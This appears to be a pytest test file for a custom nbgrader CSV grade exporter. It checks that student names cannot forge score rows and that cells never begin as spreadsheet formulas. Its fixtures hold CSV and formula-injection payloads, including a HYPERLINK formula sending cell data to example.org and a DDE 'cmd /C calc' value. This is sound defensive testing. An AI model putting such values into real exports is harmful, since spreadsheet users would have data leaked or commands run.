"""``nbgrader export``: whatever students are called, each has a row of their own points, and nothing in it is run."""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

ROOT = Path(__file__).parents[2]
STOCK = "nbgrader.plugins.CsvExportPlugin"
FORMULA = '=HYPERLINK("http://example.org/?"&A1, "Bob")'
POINTS_IN_A_NAME = "Bo,bo@example.org,100,0.0,100,100"
NAMES = {
    "ann": ("Ann", "Abel", "ann@example.org"),
    "bo": ("Bo", POINTS_IN_A_NAME, "bo@example.org"),
    "cy": ("Cy", "Cyan\nhw4,,2026-01-01,cy,Cyan,Cy,cy@example.org,100.0,0.0,100.0,100.0", "cy@example.org"),
    "di": (FORMULA, '\t+cmd|" /C calc"!A0', "@SUM(1+1)*cmd"),
    "ed": ("Ed; =1+1", "－1", "\r=1"),
}


@pytest.fixture(scope="module")
def database(tmp_path_factory) -> str:
    """A gradebook in which nobody has a point, and everybody a name of their own choice."""
    database = f"sqlite:///{tmp_path_factory.mktemp('export')}/gradebook.db"
    with Gradebook(database, "cis520") as gradebook:
        gradebook.add_assignment("hw4", duedate="2026-01-01 12:00:00")
        for student, (first_name, last_name, email) in NAMES.items():
            gradebook.add_student(student, first_name=first_name, last_name=last_name, email=email)
    return database


@pytest.fixture
def export(database, tmp_path):
    def export(*arguments: str) -> Path:
        target = tmp_path / "grades.csv"
        command = [sys.executable, "-m", "nbgrader", "export", f"--db={database}", f"--to={target}", *arguments]
        done = subprocess.run(command, cwd=ROOT, stdin=subprocess.DEVNULL, capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
        return target

    return export


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def test_a_name_fills_in_no_points_and_adds_no_row(export):
    found = rows(export())
    assert sorted(row["student_id"] for row in found) == list(NAMES)
    assert {(row["raw_score"], row["score"]) for row in found} == {("0.0", "0.0")}
    assert POINTS_IN_A_NAME in {row["last_name"] for row in found}


def test_with_nbgraders_own_exporter_it_does(export):
    found = rows(export(f"--exporter={STOCK}"))
    assert [row["score"] for row in found if row["student_id"] == "bo"] == ["100"]
    assert len(found) > len(NAMES)


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_nothing_is_a_formula_wherever_the_spreadsheet_comes_from(export, delimiter):
    with export().open(newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file, delimiter=delimiter) for cell in row]
    assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@", "－"))]
    assert any(FORMULA[1:12] in cell for cell in cells)


def test_ordinary_students_are_written_as_by_nbgrader_and_their_state_is_added(export):
    (ours,) = rows(export("--student=['ann']", "--assignment=['hw4']"))
    assert ours.pop("state") == "nothing handed in"
    assert [ours] == rows(export(f"--exporter={STOCK}", "--student=['ann']", "--assignment=['hw4']"))


def test_ungraded_is_told_from_zero(tmp_path):
    """In a course with the repository's configuration: one graded, one waiting for a person, two not graded."""
    shutil.copy(ROOT / "nbgrader_config.py", tmp_path)
    with Gradebook(f"sqlite:///{tmp_path}/gradebook.db", "cis520") as gradebook:
        gradebook.add_assignment("hw4")
        gradebook.add_notebook("lab", "hw4")
        gradebook.add_grade_cell("why", "lab", "hw4", max_score=4, cell_type="markdown")
        for student in ("graded", "waiting", "new", "absent"):
            gradebook.add_student(student)
        for student in ("graded", "waiting"):
            gradebook.add_submission("hw4", student)
        grade = gradebook.find_grade("why", "lab", "hw4", "graded")
        grade.manual_score, grade.needs_manual_grade = 0.0, False
        gradebook.db.commit()
    (tmp_path / "submitted" / "new" / "hw4").mkdir(parents=True)
    done = subprocess.run(
        [sys.executable, "-m", "nbgrader", "export"],
        cwd=tmp_path,
        env=os.environ | {"PYTHONPATH": str(ROOT)},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr
    assert {row["student_id"]: (row["score"], row["state"]) for row in rows(tmp_path / "grades.csv")} == {
        "graded": ("0.0", "graded"),
        "waiting": ("0.0", "waits for a person"),
        "new": ("", "not graded yet"),
        "absent": ("0.0", "nothing handed in"),
    }
